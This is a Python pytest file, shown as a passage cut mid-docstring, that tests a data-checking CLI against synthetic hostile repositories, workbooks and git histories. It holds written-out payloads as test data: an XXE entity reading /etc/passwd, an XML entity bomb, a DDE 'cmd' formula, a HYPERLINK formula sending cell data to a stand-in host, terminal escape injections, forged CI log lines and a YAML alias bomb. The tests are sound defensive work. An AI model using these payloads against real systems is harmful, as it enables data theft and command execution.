"""Hostile repositories, forms and histories, third round (issue 21): one test or more for each
family that a hostile pull request, form or git history could use against a command other than
`check` (import, form, log, diff, status) or against the terminal and the CI log. The rules are
those of docs/security.md. Repositories, forms and histories here are SYNTHETIC fixtures."""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import time
import zipfile
from pathlib import Path

import pytest

from conftest import PLAN, TEST_CACHE, codes, problems_of, run, write_repo, xhht_exe

HEADER = "indicator,area,period,value,numerator,denominator,source,note\n"
SECRET = "XHHT_TEST_SECRET_hunter2"
ENV = {"PATH": "/usr/bin:/bin", "LANG": "C.UTF-8", "GIT_CONFIG_NOSYSTEM": "1", "HOME": "/nonexistent",
       "XDG_CACHE_HOME": TEST_CACHE}


def run_env(*args: str, cwd: Path, timeout: int = 120, **env: str) -> subprocess.CompletedProcess:
    return subprocess.run([xhht_exe(), *args], cwd=cwd, capture_output=True, text=True, timeout=timeout,
                          errors="replace", env={"PATH": "/usr/bin:/bin", "LANG": "C.UTF-8", **env})


def tree(root: Path) -> dict[str, bytes]:
    """Every file under `root` (links not followed) but xhht's own cache."""
    out = {}
    for p in sorted(root.rglob("*")):
        rel = p.relative_to(root)
        if rel.parts[0] == ".xhht":
            continue
        out[rel.as_posix()] = os.readlink(p).encode() if p.is_symlink() else (p.read_bytes() if p.is_file() else b"/")
    return out


def said(code: str, out: str) -> bool:
    """Whether `xhht` printed an error of `code`."""
    return f"error[{code}]" in out


def git(cwd: Path, *args: str, author: str = "Người Thử", input: bytes | None = None) -> str:
    proc = subprocess.run(["git", "-c", f"user.name={author}", "-c", "user.email=thu@example.invalid",
                           "-c", "init.defaultBranch=main", "-c", "commit.gpgsign=false", *args],
                          cwd=cwd, capture_output=True, env=ENV, input=input)
    assert proc.returncode == 0, proc.stderr
    return proc.stdout.decode("utf-8", "replace")


def commit(cwd: Path, message: str, author: str = "Người Thử") -> None:
    git(cwd, "add", "-A")
    git(cwd, "commit", "-q", "--allow-empty", "-m", message, author=author)


def import_csv(tmp_path: Path, rows: str, name: str = "bieu.csv") -> Path:
    path = tmp_path / name
    path.write_text("indicator,area,period,value,source,note\n" + rows, encoding="utf-8")
    return path


# ---------------------------------------------------------------- 1. import writes only inside data/


@pytest.mark.parametrize("make", ["link-out", "link-in", "file", "dangling", "link-year-file"])
def test_import_never_writes_through_a_link_or_onto_a_file_on_the_way(tmp_path, make):
    outside = tmp_path / "outside"
    outside.mkdir()
    root = write_repo(tmp_path / "repo")
    year = root / "data" / "2022"
    if make == "link-out":
        year.symlink_to(outside)
    elif make == "link-in":
        (root / "elsewhere").mkdir()
        year.symlink_to(root / "elsewhere")
    elif make == "file":
        year.write_text("x", encoding="utf-8")
    elif make == "dangling":
        year.symlink_to(tmp_path / "nowhere")
    else:  # the target file itself is a link leading out
        year.mkdir()
        (outside / "bieu.csv").write_text(HEADER, encoding="utf-8")
        (year / "bieu.csv").symlink_to(outside / "bieu.csv")
    before, before_out = tree(root), tree(outside)
    form = import_csv(tmp_path, "so-luong,901,2022,7,s,\n")
    r = run("import", str(form), cwd=root)
    assert r.returncode == 1, r.stdout + r.stderr
    assert said("import-path", r.stdout) and "internal error" not in r.stderr, r.stdout + r.stderr
    assert tree(root) == before and tree(outside) == before_out
    assert not (tmp_path / "nowhere").exists()


def test_import_into_a_folder_outside_the_repository_is_refused(tmp_path):
    root = write_repo(tmp_path / "repo")
    form = import_csv(tmp_path, "so-luong,901,2022,7,s,\n")
    r = run("import", "--into", str(tmp_path / "elsewhere"), str(form), cwd=root)
    assert r.returncode == 2 and "--into" in r.stderr and not (tmp_path / "elsewhere").exists()
    r = run("import", "--into", "../x", str(form), cwd=root)
    assert r.returncode == 2 and not (tmp_path / "x").exists()
    r = run("import", "--into", "data/nhap", str(form), cwd=root)
    assert r.returncode == 0 and (root / "data" / "nhap" / "bieu.csv").is_file(), r.stdout + r.stderr


def test_import_into_a_folder_that_is_a_link_is_refused(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    root = write_repo(tmp_path / "repo")
    (root / "data" / "nhap").symlink_to(outside)
    form = import_csv(tmp_path, "so-luong,901,2022,7,s,\n")
    r = run("import", "--into", "data/nhap/sub", str(form), cwd=root)
    assert r.returncode == 1 and said("import-path", r.stdout), r.stdout + r.stderr
    assert list(outside.iterdir()) == []


def test_write_inside_refuses_each_kind_of_folder(tmp_path):
    from xhht.base.writing import PathRefused, write_inside

    root = tmp_path / "repo"
    (root / "data").mkdir(parents=True)
    write_inside(root, {"data/a/b/c.csv": b"x"})
    assert (root / "data" / "a" / "b" / "c.csv").read_bytes() == b"x"
    (root / "data" / "f").write_text("x")
    (root / "data" / "l").symlink_to(root / "data" / "a")
    for rel, refused in [("data/f/x.csv", "data/f"), ("data/l/x.csv", "data/l"), ("data/../x.csv", "data/../x.csv"),
                         ("/etc/x.csv", "/etc/x.csv"), ("data/a/b/c.csv/x", "data/a/b/c.csv")]:
        with pytest.raises(PathRefused) as exc:
            write_inside(root, {rel: b"y", "data/ok.csv": b"z"})
        assert exc.value.path == refused, (rel, exc.value.path)
        assert not (root / "data" / "ok.csv").exists()


# ---------------------------------------------------------------- 2. what import accepts, check accepts


@pytest.mark.parametrize("note, code", [("x" * 5000, "too-large"), ("một\u0085hai", "bad-character"),
                                        ("một\u2028hai", "bad-character"), ("a\x00b", "bad-character"),
                                        ("a\x1b[2Jb", "bad-character"), ("a\u202eb", "bad-character")])
def test_import_refuses_what_check_refuses(tmp_path, note, code):
    root = write_repo(tmp_path / "repo")
    before = tree(root)
    form = import_csv(tmp_path, f'so-luong,901,2022,7,s,"{note}"\n')
    r = run("import", str(form), cwd=root)
    assert r.returncode == 1 and said(code, r.stdout), r.stdout + r.stderr
    assert tree(root) == before
    # and check refuses the same note in a data file
    (root / "data" / "n.csv").write_text(HEADER + f'so-luong,901,2022,7,,,s,"{note}"\n', encoding="utf-8")
    assert (code, "data/n.csv", 2) in codes(root)


def test_nul_and_esc_in_a_data_file_are_bad_characters_at_their_place(tmp_path):
    data = HEADER + "ti-le,90,2022,85,,,s,\nso-luong,90,2022,3,,,s,a\x00b\x00\nti-le,901,2022,5,,,s,x\x1b]0;t\x07\n"
    root = write_repo(tmp_path, data={"d.csv": data})
    found = [(p.code, p.line, p.column, p.params.get("more")) for p in problems_of(root)]
    assert found == [("bad-character", 3, 25, 1), ("bad-character", 4, 23, None), ("bad-character", 4, 28, None)]
    assert [p.message_in("en").split(" here")[0] for p in problems_of(root)] == [
        "the control character U+0000 NULL", "the control character U+001B ESCAPE", "the control character U+0007 BELL"]
    r = run("check", cwd=root)
    assert r.returncode == 1 and "\x1b" not in r.stdout and "\x00" not in r.stdout and "\x07" not in r.stdout


# ---------------------------------------------------------------- 3. damaged and hostile workbooks


@pytest.fixture
def form_bytes(tmp_path) -> bytes:
    root = write_repo(tmp_path / "formrepo")
    r = run("form", "demo", "--year", "2022", "-o", str(tmp_path / "f.xlsx"), cwd=root)
    assert r.returncode == 0, r.stderr
    return (tmp_path / "f.xlsx").read_bytes()


def rezip(data: bytes, changes: dict[str, bytes | None], extra: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = changes.get(info.filename, src.read(info.filename))
            if body is not None:
                dst.writestr(info.filename, body)
        for name, body in (extra or {}).items():
            dst.writestr(name, body)
    return out.getvalue()


def _sub(data: bytes, part: str, old: bytes, new: bytes, count: int = 1) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        body = z.read(part)
    assert old in body, (part, old)
    return rezip(data, {part: body.replace(old, new, count)})


SHEET = "xl/worksheets/sheet1.xml"
BOMB = (b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">'
        b'<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">'
        b'<!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">]>')

MUTATIONS = {
    "stray-lt-in-rels": lambda d: _sub(d, "xl/_rels/workbook.xml.rels", b"<Relationship ", b"<<Relationship "),
    "stray-lt-in-sheet": lambda d: _sub(d, SHEET, b"<sheetData>", b"<sheetData><"),
    "undefined-entity": lambda d: _sub(d, SHEET, b"<t>M", b"<t>&nope;M"),
    "external-entity": lambda d: _sub(d, SHEET, b"<worksheet ",
                                      b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet ', 1),
    "entity-bomb": lambda d: _sub(d, SHEET, b"<worksheet ", BOMB + b"<worksheet "),
    "nan-number": lambda d: _sub(d, SHEET, b'<c r="C3" ', b'<c r="C3" t="n" '),
    "hex-number": lambda d: _sub(d, SHEET, b"<v>2022</v>", b"<v>0x10</v>"),
    "style-out-of-range": lambda d: _sub(d, SHEET, b' s="1" ', b' s="999999" '),
    "unknown-enum": lambda d: _sub(d, SHEET, b'state="frozen"', b'state="melted"'),
    "col-without-min": lambda d: _sub(d, SHEET, b' min="1" ', b" "),
    "not-a-zip": lambda d: d[: len(d) // 2],
    "no-workbook-part": lambda d: rezip(d, {"xl/workbook.xml": None}),
    "utf16-doctype": lambda d: rezip(d, {SHEET: '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w [<!ENTITY x '
                                         '"y">]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
                                         '2006/main"><sheetData/></worksheet>'.encode("utf-16")}),
}


@pytest.mark.parametrize("name", sorted(MUTATIONS))
def test_a_damaged_or_hostile_workbook_is_a_problem_never_a_crash(tmp_path, form_bytes, name):
    root = write_repo(tmp_path / "repo")
    path = tmp_path / f"{name}.xlsx"
    data = MUTATIONS[name](form_bytes)
    if name == "nan-number":
        data = _sub(data, SHEET, b"<v>2022</v>", b"<v>NaN</v>")
    path.write_bytes(data)
    before = tree(root)
    started = time.monotonic()
    r = run("import", str(path), cwd=root)
    assert time.monotonic() - started < 60  # a hang guard, not a speed goal
    assert r.returncode == 1, (name, r.returncode, r.stdout, r.stderr)
    assert "internal error" not in r.stderr and "Traceback" not in r.stderr
    assert "root:" not in r.stdout  # nothing of /etc/passwd
    assert tree(root) == before
    lines = [x for x in r.stdout.splitlines() if "error[" in x]
    assert lines and all(x.startswith(str(path)) for x in lines), r.stdout


@pytest.mark.parametrize("case", ["entries", "ratio", "size"])
def test_the_zip_is_bounded_before_openpyxl_opens_it(tmp_path, form_bytes, case, monkeypatch):
    from xhht.excel import reading as importer

    if case == "entries":
        data = rezip(form_bytes, {}, {f"x/{i}.bin": b"" for i in range(importer.MAX_ZIP_ENTRIES + 1)})
    elif case == "ratio":
        data = rezip(form_bytes, {}, {"xl/media/pad.bin": b"\0" * (4 * 1024 * 1024)})
    else:
        monkeypatch.setattr(importer, "MAX_XLSX_BYTES", 100_000)
        data = rezip(form_bytes, {}, {"xl/media/pad.bin": b"\0" * 200_000})
    path = tmp_path / "z.xlsx"
    path.write_bytes(data)

    def opened(*args, **kwargs):
        raise AssertionError("openpyxl opened a workbook that the bounds refuse")

    import openpyxl

    monkeypatch.setattr(openpyxl, "load_workbook", opened)
    table = importer.read_table(path, "z.xlsx")
    assert [p.code for p in table.problems] == ["bad-workbook"], table.problems


def _workbook(tmp_path: Path, sheets: list[tuple[str, str]]) -> Path:
    from openpyxl import Workbook

    wb = Workbook()
    wb.remove(wb.active)
    for title, state in sheets:
        ws = wb.create_sheet(title)
        ws.append(["indicator", "area", "period", "value", "source"])
        ws.append(["so-luong", "901", 2022, 7, "s"])
        ws.sheet_state = state
    if any(state == "visible" for _, state in sheets):
        wb.active = next(i for i, (_, state) in enumerate(sheets) if state == "visible")
    path = tmp_path / "w.xlsx"
    wb.save(path)
    return path


@pytest.mark.parametrize("sheets, ok", [
    ([("Số liệu", "visible")], True),
    ([("Hướng dẫn", "visible"), ("Số liệu", "visible")], True),
    ([("Sheet1", "visible")], False),
    ([("Số liệu", "hidden"), ("Sheet1", "visible")], False),
    ([("so lieu", "hidden"), ("Sheet1", "visible")], False),
    ([("Số liệu ", "visible")], False),
])
def test_only_the_visible_sheet_named_exactly_so_lieu_is_read(tmp_path, sheets, ok):
    root = write_repo(tmp_path / "repo")
    path = _workbook(tmp_path, sheets)
    r = run("import", "--lang", "en", str(path), cwd=root)
    if ok:
        assert r.returncode == 0, r.stdout
        return
    assert r.returncode == 1 and said("no-data-sheet", r.stdout), r.stdout
    for title, _ in sheets:
        assert f"'{title}'" in r.stdout


# ---------------------------------------------------------------- 4. forms write text, never formulas

DDE = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://example.invalid/?"&D3,"Bấm vào đây")'


def _formula_repo(tmp_path: Path) -> Path:
    plan = PLAN.replace("name: Tỷ lệ", f'name: "{DDE}"').replace("name: Số lượng", f"name: '{LINK}'")
    areas = "code,name,level,parent\n90,Tỉnh Thử,tinh,\n901,@SUM(1+1)*cmd|' /C calc'!A0,huyen,90\n" \
            "902,＝1+1,huyen,90\n"
    return write_repo(tmp_path / "repo", plans={"demo.yaml": plan}, areas=areas)


def test_a_form_writes_text_that_looks_like_a_formula_as_text(tmp_path):
    from openpyxl import load_workbook

    root = _formula_repo(tmp_path)
    out = tmp_path / "f.xlsx"
    r = run("form", "demo", "--year", "2022", "-o", str(out), cwd=root)
    assert r.returncode == 0, r.stderr
    with zipfile.ZipFile(out) as z:
        xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml and b"<f " not in xml
    ws = load_workbook(out)["Số liệu"]
    texts = {c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert {DDE, LINK, "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1"} <= texts  # shown exactly as written
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


@pytest.mark.skipif(not __import__("shutil").which("soffice"), reason="LibreOffice (soffice) is not installed")
def test_libreoffice_evaluates_no_formula_in_a_form(tmp_path):
    root = _formula_repo(tmp_path)
    out = tmp_path / "f.xlsx"
    assert run("form", "demo", "--year", "2022", "-o", str(out), cwd=root).returncode == 0
    env = {**os.environ, "HOME": str(tmp_path / "home")}
    proc = subprocess.run(["soffice", "--headless", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1",
                           "--outdir", str(tmp_path / "csv"), str(out)], capture_output=True, text=True,
                          timeout=180, env=env)
    text = (tmp_path / "csv" / "f.csv").read_text(encoding="utf-8")
    assert proc.returncode == 0 and DDE in text and "Bấm vào đây" in text.replace('""', '"'), text
    assert "\n2," not in text and "#NAME?" not in text and "Err:" not in text


def test_check_warns_of_plan_and_area_text_a_spreadsheet_reads_as_a_formula(tmp_path):
    root = _formula_repo(tmp_path)
    found = {(p.code, p.file, p.line) for p in problems_of(root) if p.code == "formula-text"}
    assert found == {("formula-text", "plans/demo.yaml", 14), ("formula-text", "plans/demo.yaml", 18),
                     ("formula-text", "areas.csv", 3), ("formula-text", "areas.csv", 4)}
    assert run("check", cwd=root).returncode == 0  # a warning
    assert run("check", "--strict", cwd=root).returncode == 1


# ---------------------------------------------------------------- 5. log and diff read like every command


@pytest.fixture
def history(tmp_path) -> Path:
    root = write_repo(tmp_path / "repo")
    git(root, "init", "-q")
    commit(root, "first figures")
    return root


def test_log_reads_the_working_tree_through_the_one_read_path(history, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "x.csv").write_text(HEADER + f"so-luong,{SECRET},2022,99,,,s,\n", encoding="utf-8")
    (history / "data" / "leak").symlink_to(outside)
    (history / "data" / "bad.csv").write_bytes(HEADER.encode() + b"so-luong,902,2022,\xff,,,s,\n")
    r = run("log", "so-luong", cwd=history)
    assert r.returncode == 1, r.stdout + r.stderr
    assert SECRET not in r.stdout + r.stderr
    assert "data/leak: error[outside-repo]" in r.stderr and "data/bad.csv:2:19: error[not-utf8]" in r.stderr
    j = run("log", "so-luong", "-f", "json", cwd=history)
    assert j.returncode == 1 and SECRET not in j.stdout and json.loads(j.stdout)["changes"] is not None


def test_log_does_not_read_a_working_tree_file_over_the_bound(history, monkeypatch):
    from xhht.gitio.history import history as log_history
    from xhht.gitio.revisions import open_git
    from xhht.load import safe_io

    (history / "data" / "big.csv").write_text(HEADER + "so-luong,902,2022,5,,,s,\n" * 20, encoding="utf-8")
    monkeypatch.setattr(safe_io, "MAX_BYTES", 200)
    events, problems = log_history(open_git(history), history, "so-luong", None)
    assert ("too-large", "data/big.csv") in {(p.code, p.file) for p in problems}
    assert all(e.new is None or e.new.file != "data/big.csv" for e in events)


@pytest.mark.parametrize("author, subject", [
    ("Kẻ Xấu \x1b]0;pwned\x07", "sửa số \x1b[2J\x1b[31mĐỎ"),
    ("Người\u202eThử", "tiêu đề\u202e fdp.exe"),
    ("A", "::warning file=README.md,line=1::FORGED"),
])
def test_log_and_diff_print_authors_and_subjects_as_data(history, author, subject):
    edit = history / "data" / "d.csv"
    edit.write_text(edit.read_text(encoding="utf-8").replace("so-luong,90,2022,120", "so-luong,90,2022,121"),
                    encoding="utf-8")
    commit(history, subject, author=author)
    r = run("log", "so-luong", cwd=history)
    assert r.returncode == 0, r.stderr
    for bad in ("\x1b", "\x07", "\u202e"):
        assert bad not in r.stdout
    assert not any(line.startswith("::") for line in r.stdout.splitlines())
    assert "121" in r.stdout


def test_git_blobs_are_sized_before_they_are_read(history, monkeypatch):
    from xhht.gitio import revisions
    from xhht.gitio.history import history as log_history
    from xhht.load import safe_io

    (history / "data" / "big.csv").write_text(HEADER + "so-luong,902,2022,5,,,s,\n" * 50, encoding="utf-8")
    commit(history, "a big file")
    monkeypatch.setattr(safe_io, "MAX_BYTES", 300)
    read: list[int] = []
    real = revisions._read_exactly

    def spy(stream, n):
        read.append(n)
        return real(stream, n)

    monkeypatch.setattr(revisions, "_read_exactly", spy)
    git_repo = revisions.open_git(history)
    events, problems = log_history(git_repo, history, "so-luong", None)
    assert max(read) <= 300
    assert [p.code for p in problems if p.file.endswith(":data/big.csv")] == ["too-large"]
    with revisions.checkout(git_repo, git_repo.resolve("HEAD")) as (root, skipped):
        assert not (root / "data" / "big.csv").exists() and (root / "data" / "d.csv").exists()
        assert ("too-large", "data/big.csv") in [(p.code, p.file) for p in skipped]


def test_a_blob_over_the_bound_is_sized_never_read_by_log_and_diff(history):
    """A real blob over safe_io.MAX_BYTES (64 MiB of one repeated row: a few hundred KB packed)."""
    from xhht.load.safe_io import MAX_BYTES

    row = b"so-luong,902,2022,5,,,s,\n"
    (history / "data" / "big.csv").write_bytes(HEADER.encode() + row * (MAX_BYTES // len(row) + 1))
    commit(history, "a big file")
    (history / "data" / "big.csv").unlink()
    for args in (("diff", "HEAD~1", "HEAD"), ("diff", "HEAD"), ("log", "so-luong")):
        started = time.monotonic()
        r = run(*args, cwd=history)
        assert time.monotonic() - started < 60, args  # a hang guard, not a speed goal
        assert r.returncode == 1 and re.search(r"^(HEAD|[0-9a-f]{7}):data/big.csv: error\[too-large\]", r.stderr,
                                               re.M), (args, r.stderr)


def test_diff_markdown_mentions_and_references_do_not_notify(tmp_path):
    from xhht.gitio.diff import diff_markdown, diff_repos
    from xhht.repo import load_repo

    plan = PLAN.replace("name: Tỷ lệ", "name: Tỷ lệ @octocat xem #123 và GH-45")
    old = load_repo(write_repo(tmp_path / "old", plans={"demo.yaml": plan}))
    data = HEADER + "ti-le,90,2022,70,,,synthetic,\nso-luong,90,2022,120,,,synthetic,\n"  # met -> missed
    new = load_repo(write_repo(tmp_path / "new", plans={"demo.yaml": plan}, data={"d.csv": data}))
    md = diff_markdown(diff_repos(old, new, "HEAD", "worktree"))
    assert "@octocat" not in md and not re.search(r"(?<![\w&])#123", md) and "GH-45" not in md
    assert "@&#8203;octocat" in md


# ---------------------------------------------------------------- 6. a file name cannot forge a log line


@pytest.mark.parametrize("fmt", ["text", "github"])
def test_a_file_name_with_a_newline_cannot_start_a_line(tmp_path, fmt):
    name = "x\n::warning file=README.md,line=1::FORGED\ndata/y.csv:1:1: error[forged] FORGED\x1b[2J.csv"
    root = write_repo(tmp_path, data={"d.csv": HEADER + "ti-le,90,2022,85,,,s,\n",
                                      name: HEADER + "ti-le,99,2022,85,,,s,\n"})
    r = run("check", "-f", fmt, cwd=root)
    assert r.returncode == 1, r.stdout
    lines = r.stdout.splitlines()
    assert not any(x.startswith(("::warning", "data/y.csv")) for x in lines), r.stdout
    assert "\x1b" not in r.stdout and "FORGED" in r.stdout
    if fmt == "github":
        assert all(x.startswith("::error ") for x in lines), r.stdout


def test_problem_lines_of_import_cannot_be_forged_by_a_form_name(tmp_path):
    root = write_repo(tmp_path / "repo")
    form = import_csv(tmp_path, "so-luong,99,2022,7,s,\n", name="a\nb.csv:1:1: error[forged] x\x1b[31m.csv")
    r = run("import", str(form), cwd=root)
    assert r.returncode == 1 and "\x1b" not in r.stdout
    assert not any(x.startswith("b.csv") for x in r.stdout.splitlines()), r.stdout
    good = import_csv(tmp_path, "so-luong,901,2022,7,s,\n", name="a\nb.csv")  # would name a data file
    r = run("import", str(good), cwd=root)
    assert r.returncode == 1 and said("import-path", r.stdout) and not list((root / "data").glob("2022/*"))


# ---------------------------------------------------------------- 7. COLUMNS


@pytest.mark.parametrize("columns", ["0", "-1", "abc", "99999999999", ""])
def test_a_strange_columns_is_taken_as_unset(tmp_path, columns):
    root = write_repo(tmp_path, data={"d.csv": HEADER + "ti-le,90,2022,x,,,s,\nso-luong,90,2022,120,,,s,\n"})
    r = run_env("check", cwd=root, COLUMNS=columns)
    assert r.returncode == 1 and said("non-canonical-number", r.stdout), (columns, r.stdout, r.stderr)
    s = run_env("status", "-p", "2022", cwd=root, COLUMNS=columns)
    unset = run_env("status", "-p", "2022", cwd=root)
    assert s.stdout == unset.stdout and "1/KH-TEST" in s.stdout and max(map(len, s.stdout.splitlines())) <= 80


# ---------------------------------------------------------------- 8. a flood of problems


def test_a_flood_of_one_problem_is_said_once(tmp_path):
    """SYNTHETIC: 100,000 one-cell lines. The flood is folded into one problem and a count in every
    format (printing 100,000 problems through rich took minutes and made a 20 MB log); how long it
    takes belongs to benchmarks/, not to a timed test."""
    root = write_repo(tmp_path, data={"d.csv": HEADER + "x\n" * 100_000})
    r = run_env("--no-cache", "check", cwd=root, timeout=300)
    assert r.returncode == 1
    assert len(r.stdout) < 10_000 and r.stdout.count("error[ragged-row]") == 1, r.stdout[:2000]
    assert "(và 99.999 dòng khác: data/d.csv:3, data/d.csv:4, data/d.csv:5, data/d.csv:6, data/d.csv:7, …)" \
        in r.stdout, r.stdout[:2000]
    assert r.stdout.rstrip().endswith("100.000 lỗi trong 1 tệp")
    g = run_env("check", "-f", "github", cwd=root, timeout=300)
    assert g.returncode == 1 and g.stdout.count("\n") == 1 and "99.999" in g.stdout
    j = json.loads(run_env("check", "-f", "json", "--lang", "en", cwd=root, timeout=300).stdout)
    assert len(j) == 1 and j[0]["others"] == 99_999 and len(j[0]["also"]) == 100
    assert j[0]["also"][:2] == ["data/d.csv:3", "data/d.csv:4"]


def test_a_flood_of_different_problems_is_counted(tmp_path):
    rows = "".join(f"chi-tieu-{i},90,2022,1,,,s,\n" for i in range(250))
    root = write_repo(tmp_path, data={"d.csv": HEADER + rows})
    r = run_env("check", cwd=root)
    assert r.returncode == 1 and r.stdout.count("error[unknown-indicator]") == 100
    assert "… và 150 lỗi `unknown-indicator` khác trong data/d.csv" in r.stdout, r.stdout[-1000:]
    assert r.stdout.rstrip().endswith("250 lỗi trong 1 tệp")
    g = run_env("check", "-f", "github", cwd=root)
    assert g.returncode == 1 and g.stdout.count("\n") == 101 and "150" in g.stdout.splitlines()[-1]
    j = json.loads(run_env("check", "-f", "json", "--lang", "en", cwd=root).stdout)
    assert len(j) == 101 and j[-1]["code"] == "more-problems" and j[-1]["file"] == "data/d.csv"
    assert "150 more `unknown-indicator` errors in data/d.csv" in j[-1]["message"]
    assert len(json.loads(run_env("check", "--all", "-f", "json", cwd=root).stdout)) == 250
    assert run_env("check", "--all", cwd=root).stdout.count("error[unknown-indicator]") == 250
    assert run_env("check", "--all", "-f", "github", cwd=root).stdout.count("::error ") == 250


def test_a_flood_of_different_unknown_ids_guesses_only_what_is_printed(tmp_path, monkeypatch):
    """SYNTHETIC: 50,000 different unknown ids (and 2,000 unknown levels) in one file. A guess
    (`có phải ý là …?`, ~1 ms an id) is made for the problems printed, not for each row (30 s)."""
    import xhht.load.figures as figures
    from xhht.present.problem_text import printed

    calls, guess = [], figures.did_you_mean
    monkeypatch.setattr(figures, "did_you_mean", lambda *a: calls.append(a) or guess(*a))
    rows = "".join(f"ti-le-{i},90,2022,1,,,s,\n" for i in range(50_000))
    levels = "".join(f"xep-loai,90,{2000 + i % 20},Loai {i},,,s,\n" for i in range(2_000))
    root = write_repo(tmp_path, data={"d.csv": HEADER + rows, "e.csv": HEADER + levels})
    problems = problems_of(root)
    assert len(problems) == 52_000 and len(calls) == 200  # 100 ids, 100 levels: those printed
    shown = [p for p, _ in printed(problems) if p.code != "more-problems"]
    assert len(shown) == 200 and all("guess" in p.params for p in shown if p.code == "unknown-indicator")
    assert shown[0].hint == "có phải ý là `ti-le`?", shown[0].hint
    assert [p.params.get("guess") for p in problems[-2:]] == [None, None]  # counted, not printed: no guess


# ---------------------------------------------------------------- 10. plans whose parents form a cycle


@pytest.mark.parametrize("parents, cycle", [
    ({"demo": "demo"}, "demo → demo"),
    ({"demo": "b", "b": "c", "c": "demo"}, "b → c → demo → b"),
])
def test_a_plan_that_is_its_own_ancestor_is_an_error(tmp_path, parents, cycle):
    plans = {}
    for pid, parent in parents.items():
        plans[f"{pid}.yaml"] = PLAN.replace("id: demo", f"id: {pid}").replace('area: "90"',
                                                                                f'area: "90"\nparent: {parent}')
    root = write_repo(tmp_path, plans=plans)
    found = [p for p in problems_of(root) if p.code == "plan-cycle"]
    assert len(found) == 1 and found[0].params["cycle"] == cycle, found
    assert run("check", cwd=root).returncode == 1
    r = run("report", "demo", cwd=root)
    assert r.returncode in (0, 1) and "internal error" not in r.stderr


# ---------------------------------------------------------------- 11. broken plans, long notes


@pytest.mark.parametrize("breakage", ["tab", "not-utf8", "duplicate-anchor", "not-a-mapping"])
def test_a_plan_too_broken_to_load_does_not_make_its_figures_unknown(tmp_path, breakage):
    plan = PLAN
    if breakage == "tab":
        plan = plan.replace("        name: Tỷ lệ", "\tname: Tỷ lệ")
    elif breakage == "duplicate-anchor":
        plan = plan.replace("groups:", "x: &a 1\ny: *b\ngroups:")
    elif breakage == "not-a-mapping":
        plan = "- " + plan.replace("\n", "\n  ")
    root = write_repo(tmp_path, plans={"demo.yaml": plan})
    if breakage == "not-utf8":
        (root / "plans" / "demo.yaml").write_bytes(PLAN.replace("Kế hoạch thử", "K\xea ho\xe1ch").encode("latin-1",
                                                                                                           "replace"))
    found = problems_of(root)
    assert found and all(p.file == "plans/demo.yaml" for p in found), [(p.code, p.file) for p in found]


def test_a_200kb_note_is_too_large_at_its_cell_and_the_next_rows_are_checked(tmp_path):
    data = HEADER + "ti-le,90,2022,85,,,s,\n" + "so-luong,90,2022,1,,,s," + "x" * 200_000 + "\n" \
        + "ti-le,901,2022,x,,,s,\n" + "so-luong,901,2022,3,,,s,\n"
    root = write_repo(tmp_path, data={"d.csv": data})
    found = [(p.code, p.line, p.column) for p in problems_of(root)]
    assert found == [("too-large", 3, 8), ("non-canonical-number", 4, 4)], found
    r = run("check", cwd=root)
    assert "field larger than field limit" not in r.stdout and r.stdout.count("error[") == 2


# ---------------------------------------------------------------- 12. smaller ones


@pytest.mark.parametrize("command", [("status", "-p", "2022"), ("report", "-p", "2022"), ("check",),
                                     ("areas", "show", "90")])
@pytest.mark.parametrize("reader", ["head -1", "true"])  # `true` reads nothing: the first write fails
def test_a_reader_that_stops_early_is_no_error(repo, command, reader):
    proc = subprocess.run(["/bin/bash", "-c", f"'{xhht_exe()}' {' '.join(command)} | {reader}; "
                           "echo \"rc=${PIPESTATUS[0]}\""], cwd=repo, capture_output=True, text=True,
                          env={"PATH": "/usr/bin:/bin", "LANG": "C.UTF-8", "COLUMNS": "40"})
    assert proc.stdout.rstrip().endswith("rc=0"), (proc.stdout, proc.stderr)
    assert proc.stderr == ""


def test_a_large_plan_without_aliases_is_not_an_alias_bomb(tmp_path):
    """20,000 indicators: 200,000 nodes, twice what the old bound (every node counted) refused. (The
    issue's 9 MB plan of 100,000 indicators passes too, in half a minute: composing a million
    nodes; by hand.)"""
    inds = "".join(f"      - {{id: i{i}, name: Chỉ tiêu {i}, unit: count, targets: {{2022: {i}}}}}\n"
                   for i in range(20_000))
    plan = PLAN.split("    indicators:\n")[0] + "    indicators:\n" + inds
    from xhht.load.yamlsrc import load_yaml

    doc, found = load_yaml(plan, "plans/demo.yaml")  # where the bound is
    assert found == [] and len(doc.data["groups"][0]["indicators"]) == 20_000

    bomb = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{c}: &{c} [{', '.join(['*' + p] * 10)}]\n" for p, c in zip("abcdef", "bcdefg"))
    doc, found = load_yaml(bomb, "plans/bomb.yaml")
    assert doc is None and [(p.code, p.params.get("bomb")) for p in found] == [("yaml-unsafe", True)]


def test_log_of_cells_that_are_no_number_within_the_bounds(history):
    """Found by the fuzz test of histories: a cell of 45 digits, or `1e999999999`, made `log -f json`
